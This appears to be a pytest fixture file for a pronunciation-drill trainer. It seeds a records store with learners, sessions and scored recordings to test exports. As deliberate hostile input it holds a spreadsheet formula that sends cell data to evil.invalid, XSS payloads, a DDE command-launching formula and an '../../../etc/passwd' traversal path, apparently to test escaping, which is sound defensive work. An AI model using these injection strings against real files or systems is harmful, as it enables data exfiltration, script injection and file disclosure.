"""A store as a station writes it: two learners, three drills, one of whom lets recordings be kept. What people can type
(names, crews, calls of their own phrasebooks) holds what an attacker would type."""

import shutil
from collections.abc import Iterator
from dataclasses import replace
from pathlib import Path

import numpy as np
import pytest

from trainer.audio.recording import SAMPLE_RATE, Recording
from trainer.drill.events import Advanced, Assessed, Cue, Ended, Event, KeyDown, KeyUp, Line, Missed
from trainer.drill.plan import Mode, Plan, Reason, Seat
from trainer.languages import Language
from trainer.phrasebook.load import load
from trainer.phrasebook.phases import Phases
from trainer.records.recordings import keep
from trainer.records.store import Store
from trainer.reports.names import Names
from trainer.reports.selection import Selection, conditions
from trainer.reports.stored import exported
from trainer.scoring.assessment import Assessment, Fluency, PhoneScore, WordScore
from trainer.scoring.content import Content

LEONOV, STAFFORD = "leonov", "stafford"
FORMULA = '=HYPERLINK("http://evil.invalid?x="&A1,"Leonov")'
MARKUP = "<script>alert(1)</script>\"'><img src=x onerror=alert(2)>"
CREW = "@SUM(1+1)*cmd|' /C calc'!A0"
PATH = "../../../etc/passwd"


def phone(symbol: str, score: float, start: float, heard: str | None = None) -> PhoneScore:
    return PhoneScore(symbol, score, (score - 100) / 12.5, start, start + 0.1, heard, ((heard or symbol, 0.5),))


def reading(score: float, language: Language = "en", text: str = "Capture now") -> Assessment:
    first, second = text.split()[:2]
    if language == "en":
        ones = (phone("k", score, 0.2), phone("ˈæ", score, 0.3, "ʌ" if score < 60 else None), phone("p", 99.5, 0.4))
        twos = (phone("n", 97.25, 0.55), phone("aʊ", score, 0.65, "" if score < 60 else None))
    else:
        ones = (phone("k", score, 0.2), phone("ˈɨ", score, 0.3, "ˈi" if score < 60 else None), phone("p", 99.5, 0.4))
        twos = (phone("n", 97.25, 0.55), phone("ˈo", score, 0.65, "ə" if score < 60 else None))
    words = (
        WordScore(first, sum(p.score for p in ones) / 3, 0.2, 0.5, False, ones),
        WordScore(second, sum(p.score for p in twos) / 2, 0.55, 0.75, False, twos, ("ə",)),
    )
    flow = Fluency(0.2, 0.55, 4.5, 4.0, ())
    return Assessment(
        text, language, "scored", score, 100.0, -0.25, words, (), flow, 1.0, clip="/home/leonov/a.wav", phrase="DOC-09"
    )  # fmt: skip


class Drill:
    """Appends the events of turns, as a station does."""

    def __init__(self, store: Store, session: str, mode: Mode, learner: str, name: str, first: Language, opened: str):
        self.store, self.session, self.turn, self.at = store, session, 0, 0.0
        self.language: Language = "en" if first == "ru" else "ru"
        seat = Seat("here", learner, name, first, "soyuz")
        store.create(Plan(session, mode, "docking", (seat,), (), opened, within=5.0))

    def say(self, call: str, assessment: Assessment | None, *, wait: float = 1.0, exact: bool | None = None) -> None:
        line = Line(call, self.language, "Capture now", "soyuz")
        cue = Cue(
            at=self.at, turn=self.turn, seat="here", prompt=None, shown=(line,), answers=(line,), reason=Reason("due"),
            within=5.0,
        )  # fmt: skip
        self.append(cue)
        if assessment is None:
            self.append(Missed(at=self.at + 5, seat="here", turn=self.turn))
        else:
            sound = Recording(np.sin(np.arange(SAMPLE_RATE) / 9).astype(np.float32) / 4, "microphone", SAMPLE_RATE)
            path = keep(self.store, self.session, "here", self.turn, sound)
            self.append(KeyDown(at=self.at + wait, seat="here"))
            self.append(KeyUp(at=self.at + wait + 1, seat="here"))
            content = None if exact is None else Content(call, (), 1.0, exact, "test")
            self.append(
                Assessed(
                    at=self.at + wait + 1.5, seat="here", turn=self.turn, line=line, latency=0.5, content=content,
                    assessment=assessment, recording=path,
                )
            )  # fmt: skip
        self.append(Advanced(at=self.at + 9, turn=self.turn))
        self.turn, self.at = self.turn + 1, self.at + 10

    def end(self) -> None:
        self.append(Ended(at=self.at))

    def append(self, event: Event) -> None:
        self.store.append(self.session, event)


def data_in(folder: Path, patch: pytest.MonkeyPatch) -> str:
    """Let a folder hold the records; their address."""
    patch.setenv("RUSTON_DATA", str(folder / "data"))
    patch.setenv("RUSTON_RECORDS", str(folder / "records.sqlite"))
    return str(folder / "records.sqlite")


@pytest.fixture(scope="session")
def written(tmp_path_factory) -> Path:
    """The folder of a store that was written once; tests get copies."""
    folder = tmp_path_factory.mktemp("written")
    with pytest.MonkeyPatch.context() as patch, Store.open(data_in(folder, patch)) as made:
        made.add_learner(LEONOV, FORMULA, "ru", CREW)
        made.add_learner(STAFFORD, MARKUP, "en", "Apollo")
        made.consent(LEONOV, True, 30)
        drill = Drill(made, "s-1", "read", LEONOV, FORMULA, "ru", "2026-07-15T12:00:00+00:00")
        drill.say("DOC-09", reading(91.5))
        drill.say("DOC-09", reading(41.25), wait=7.0)
        drill.say("COM-10", None)
        drill.say(PATH, replace(reading(88.0), verdict="other_phrase", score=0.0))
        drill.end()
        drill = Drill(made, "s-2", "readback", LEONOV, FORMULA, "ru", "2026-07-17T12:00:00+00:00")
        drill.say("RBK-15R.7", reading(93.0), exact=True)
        drill.say("RBK-15R.8", reading(95.0), exact=False)
        drill.end()
        drill = Drill(made, "s-3", "relay", STAFFORD, MARKUP, "en", "2026-07-16T12:00:00+00:00")
        for score in (35.0, 45.0, 55.0, 75.0, 85.0):
            drill.say("COM-01", reading(score, "ru", "Дым «вот»" if score == 85.0 else "Дым вот"))
        drill.end()
    return folder


@pytest.fixture
def store(written, tmp_path, monkeypatch) -> Iterator[Store]:
    shutil.copytree(written, tmp_path, dirs_exist_ok=True)
    with Store.open(data_in(tmp_path, monkeypatch)) as made:
        yield made


@pytest.fixture(scope="session")
def phases() -> Phases:
    return Phases.of(load())


@pytest.fixture
def pseudonyms(store) -> Names:
    return Names(store.id.encode())


@pytest.fixture
def attempts(store, phases, pseudonyms):
    """A function: attempts of a selection as a list, by pseudonym or by name."""

    def those(selection: Selection | None = None, *, real: bool = False, assessments: bool = True):
        where = conditions(store, selection or Selection(), phases, pseudonyms)
        names = Names(None) if real else pseudonyms
        return list(exported(store, where, names, phases, assessments=assessments))

    return those
